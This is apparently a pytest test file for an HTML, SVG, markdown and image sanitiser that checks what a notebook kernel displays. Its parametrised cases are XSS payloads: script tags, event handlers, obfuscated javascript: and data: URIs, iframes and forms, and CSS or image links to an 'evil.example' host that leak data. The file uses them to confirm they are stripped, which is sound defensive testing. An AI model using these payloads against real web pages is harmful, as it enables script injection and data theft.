"""The kernel's checks on what a stage displays: only safe types, HTML and SVG
sanitised, pictures that are whole pictures. Each rule gets its attack strings."""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib
from typing import Any

import matplotlib
import pandas
import pytest
from matplotlib.figure import Figure

from ipyrunner.sinks import DisplayBundle
from ipyrunner.stages.mime import (
    MAX_SIDE,
    check_display,
    check_jpeg,
    check_png,
    sanitize_html,
    sanitize_svg,
)


def shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> DisplayBundle:
    bundle, notes = check_display(json.dumps({"data": data, "metadata": metadata or {}}).encode())
    assert bundle is not None, notes
    return bundle


def html(text: str) -> str:
    """What shows of `text` (with a paragraph after it, so that something does)."""
    value = shown({"text/html": text + "<p>kept</p>"}).data["text/html"]
    assert isinstance(value, str)
    return value.lower()


def png(width: int = 2, height: int = 1) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    # The pixels of a picture too large to show need not be there: the check reads the header.
    rows = (
        b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height)) if width < 100 else b""
    )
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


matplotlib.use("agg")


def jpeg() -> bytes:
    figure = Figure(figsize=(1, 1))
    figure.add_subplot().plot([1, 2])
    buffer = io.BytesIO()
    figure.savefig(buffer, format="jpeg")
    return buffer.getvalue()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi><script>alert(1)</script></mi></math>",
        "<noscript><p title='</noscript><script>alert(1)</script>'>",
    ],
)
def test_html_keeps_no_script(attack: str) -> None:
    assert "<script" not in html(attack)


@pytest.mark.parametrize(
    "attack",
    [
        "<img src=x onerror=alert(1)>",
        "<b onclick='alert(1)'>x</b>",
        "<div onmouseover=alert(1)>x</div>",
        "<body onload=alert(1)>",
        "<a href='#' ONFOCUS=alert(1) autofocus>x</a>",
        "<details open ontoggle=alert(1)>",
    ],
)
def test_html_keeps_no_event_handler(attack: str) -> None:
    cleaned = html(attack)
    assert " on" not in cleaned
    assert "alert" not in cleaned


@pytest.mark.parametrize(
    "attack",
    [
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<a href='jav\tascript:alert(1)'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
        "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    ],
)
def test_html_links_go_nowhere_but_the_web(attack: str) -> None:
    cleaned = html(attack)
    assert "href" not in cleaned
    assert ">x</a>" in cleaned


def test_html_keeps_web_links_and_opens_them_without_the_opener() -> None:
    cleaned = html("<a href='https://example.org/a?b=1'>x</a>")
    assert 'href="https://example.org/a?b=1"' in cleaned
    assert "noopener" in cleaned


@pytest.mark.parametrize(
    "attack",
    [
        "<iframe src='https://evil.example'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='https://evil.example/x.swf'></object>",
        "<embed src='https://evil.example/x'>",
        "<form action='https://evil.example'><input name=q></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<base href='https://evil.example/'>",
        "<style>body { background: url(https://evil.example/leak) }</style>",
    ],
)
def test_html_keeps_no_frame_form_or_page_level_tag(attack: str) -> None:
    cleaned = html(attack)
    for word in ("<iframe", "<object", "<embed", "<form", "<input", "<meta", "<link", "<base"):
        assert word not in cleaned
    assert "evil" not in cleaned
    assert "<p>kept</p>" in cleaned


@pytest.mark.parametrize(
    "attack",
    [
        "<img src='https://evil.example/leak?secret=1'>",
        "<img src='//evil.example/leak'>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
        "<img srcset='https://evil.example/a.png 1x'>",
        "<div style='background-image: url(https://evil.example/leak)'>x</div>",
        "<div style='background: u\\72 l(https://evil.example/leak)'>x</div>",
        "<div style='width: expression(alert(1))'>x</div>",
    ],
)
def test_html_makes_the_browser_fetch_nothing(attack: str) -> None:
    """A pure stage has no network; a display must not give it one through the browser."""
    cleaned = html(attack)
    assert "evil" not in cleaned
    assert "expression" not in cleaned
    assert "data:text" not in cleaned
    assert "svg" not in cleaned


def test_html_keeps_inline_pictures_and_tables() -> None:
    picture = f"data:image/png;base64,{b64(png())}"
    cleaned = html(
        f"<table border='1' class='dataframe'><thead><tr style='text-align: right;'>"
        f"<th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
        f"<img src='{picture}' alt='p' width='10'>"
    )
    assert '<table border="1" class="dataframe">' in cleaned
    assert "text-align:right" in cleaned.replace(" ", "")
    assert f'src="{picture.lower()}"' in cleaned


def test_pandas_html_shows_without_a_note() -> None:
    frame = pandas.DataFrame({"a": [1, 2], "b": ["<x>", "y"]})
    bundle, notes = check_display(json.dumps({"data": {"text/html": frame._repr_html_()}}).encode())
    assert notes == []
    assert bundle is not None
    assert "&lt;x&gt;" in bundle.data["text/html"]


def test_html_with_a_script_is_shown_cleaned_with_a_note() -> None:
    bundle, notes = check_display(
        json.dumps({"data": {"text/html": "<b>ok</b><script>alert(1)</script>"}}).encode()
    )
    assert bundle is not None
    assert bundle.data["text/html"] == "<b>ok</b>"
    assert len(notes) == 1
    assert "removed" in notes[0]


def test_sanitize_html_counts_what_it_removed() -> None:
    assert sanitize_html("<b>x</b>") == ("<b>x</b>", 0)
    cleaned, removed = sanitize_html("<b onclick='x' id='y'>x</b><iframe></iframe>")
    assert cleaned == "<b>x</b>"
    assert removed == 3


@pytest.mark.parametrize(
    "attack",
    [
        "<svg><script>alert(1)</script></svg>",
        "<svg onload='alert(1)'><circle r='1'/></svg>",
        "<svg><foreignObject><iframe src='https://evil.example'></iframe>"
        "<body onload='alert(1)'></body></foreignObject></svg>",
        "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='https://evil.example/sprite.svg#x'/></svg>",
        "<svg><use xlink:href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'/></svg>",
        "<svg><image href='https://evil.example/leak.png'/></svg>",
        "<svg><rect fill='url(https://evil.example/leak#g)'/></svg>",
        "<svg><rect style='fill: url(https://evil.example/leak#g)'/></svg>",
        "<svg><animate attributeName='href' to='javascript:alert(1)'/></svg>",
        "<svg><set attributeName='onmouseover' to='alert(1)'/></svg>",
        "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    ],
)
def test_svg_keeps_no_script_handler_foreign_object_or_outside_reference(attack: str) -> None:
    bundle, _ = check_display(json.dumps({"data": {"image/svg+xml": attack}}).encode())
    assert bundle is not None
    cleaned = bundle.data["image/svg+xml"].lower()
    for word in ("script", "onload", "foreignobject", "iframe", "javascript", "evil", "animate"):
        assert word not in cleaned
    assert "<set" not in cleaned


def test_svg_keeps_shapes_local_references_and_namespaces() -> None:
    cleaned, _ = sanitize_svg(
        "<svg viewBox='0 0 10 10'><defs><clipPath id='c'><rect width='5' height='5'/></clipPath>"
        "<path id='p' d='M0 0L1 1'/></defs><use xlink:href='#p'/>"
        "<g clip-path='url(#c)' style='fill: #ff0000'><circle cx='5' cy='5' r='4'/></g></svg>"
    )
    assert 'viewBox="0 0 10 10"' in cleaned
    assert 'xlink:href="#p"' in cleaned
    assert 'clip-path="url(#c)"' in cleaned
    assert 'xmlns="http://www.w3.org/2000/svg"' in cleaned
    assert "<circle" in cleaned


def test_matplotlib_svg_survives_sanitising() -> None:
    figure = Figure()
    figure.add_subplot().plot([1, 3, 2])
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    bundle = shown({"image/svg+xml": buffer.getvalue()})
    assert bundle.data["image/svg+xml"].count("<path") > 5


@pytest.mark.parametrize(
    ("markdown", "absent"),
    [
        ("[x](javascript:alert(1))", "href"),
        ("[x](JAVASCRIPT:alert(1))", "href"),
        ("![x](https://evil.example/leak.png)", "evil"),
        ("text <img src=x onerror=alert(1)>", "onerror"),
        ("text <script>alert(1)</script>", "<script"),
        ("text <iframe src='https://evil.example'></iframe>", "iframe"),
        ("[x](data:text/html,<script>alert(1)</script>)", "href"),
    ],
)
def test_markdown_is_shown_as_sanitised_html(markdown: str, absent: str) -> None:
    bundle = shown({"text/markdown": markdown})
    assert "text/markdown" not in bundle.data
    assert absent not in bundle.data["text/html"].lower()
    assert bundle.data["text/plain"] == markdown


def test_markdown_renders_headings_tables_and_links() -> None:
    bundle = shown({"text/markdown": "# Title\n\n|a|b|\n|-|-|\n|1|2|\n\n[web](https://x.org)"})
    rendered = bundle.data["text/html"]
    assert "<h1>Title</h1>" in rendered
    assert "<td>2</td>" in rendered
    assert 'href="https://x.org"' in rendered


def test_a_whole_png_is_shown_with_its_size_metadata() -> None:
    data = b64(png())
    bundle = shown({"image/png": data}, {"image/png": {"width": 20, "height": 10, "isolated": 1}})
    assert bundle.data["image/png"] == data
    assert bundle.metadata == {"image/png": {"width": 20, "height": 10}}


def test_a_whole_jpeg_is_shown() -> None:
    data = b64(jpeg())
    assert shown({"image/jpeg": data}).data["image/jpeg"] == data


def test_base64_with_line_breaks_is_accepted() -> None:
    data = base64.encodebytes(png()).decode()
    assert "\n" in data
    assert shown({"image/png": data}).data["image/png"] == "".join(data.split())


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"garbage" * 20, "PNG"),
        (b"GIF89a" + png()[6:], "wrong signature"),
        (b"<svg onload=alert(1)>", "wrong signature"),
        (png()[:-6], "truncated PNG"),
        (png()[:20], "truncated PNG"),
        (png() + b"trailing", "data after its end"),
        (png()[:40] + bytes([png()[40] ^ 0xFF]) + png()[41:], "bad CRC"),
        (png(MAX_SIDE + 1, 1), "pixels"),
        (png(30_000, 30_000), "pixels"),
    ],
)
def test_a_png_that_is_not_a_whole_sane_picture_is_refused(raw: bytes, why: str) -> None:
    assert why in check_png(raw)
    bundle, notes = check_display(json.dumps({"data": {"image/png": b64(raw)}}).encode())
    assert bundle is None
    assert why in notes[0]


def test_a_jpeg_that_is_not_a_whole_picture_is_refused() -> None:
    whole = jpeg()
    assert check_jpeg(whole) == ""
    assert "truncated" in check_jpeg(whole[:-10])
    assert "wrong signature" in check_jpeg(png())
    assert check_jpeg(whole[:100] + b"\xff\xd9") != ""
    assert check_jpeg(b"\xff\xd8\xff" + b"\x00" * 50 + b"\xff\xd9") != ""


@pytest.mark.parametrize("value", ["not base64!", "iVBORw0KGgo=extra", "iVBORw0KGg", 12, None])
def test_an_image_that_is_not_valid_base64_text_is_refused(value: Any) -> None:
    bundle, notes = check_display(json.dumps({"data": {"image/png": value}}).encode())
    assert bundle is None
    assert notes


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "text/latex",
        "image/gif",
        "application/pdf",
    ],
)
def test_other_types_are_dropped_with_a_note(mime: str) -> None:
    bundle, notes = check_display(
        json.dumps({"data": {mime: "alert(1)", "text/plain": "kept"}}).encode()
    )
    assert bundle is not None
    assert dict(bundle.data) == {"text/plain": "kept"}
    assert mime in notes[0]


@pytest.mark.parametrize(
    "frame",
    [
        b"not json",
        b"\xff\xfe",
        b"[1, 2]",
        b'{"data": []}',
        b'{"data": {}}',
        b'{"data": {"text/plain": NaN}}',
        b'{"data": {"text/plain": 5}}',
        b'{"data": {"application/json": "a string"}}',
        b"[" * 100_000,
    ],
)
def test_a_malformed_bundle_is_a_note_not_a_display(frame: bytes) -> None:
    bundle, notes = check_display(frame)
    assert bundle is None
    assert notes


def test_metadata_other_than_an_image_size_is_dropped() -> None:
    bundle = shown(
        {"text/html": "<b>x</b>", "image/png": b64(png())},
        {"text/html": {"isolated": True}, "image/png": {"width": -1, "unconfined": True}},
    )
    assert bundle.metadata == {}


def test_json_and_plain_text_pass_as_they_are() -> None:
    bundle = shown({"application/json": {"a": [1, 2]}, "text/plain": "<script>"})
    assert bundle.data == {"application/json": {"a": [1, 2]}, "text/plain": "<script>"}
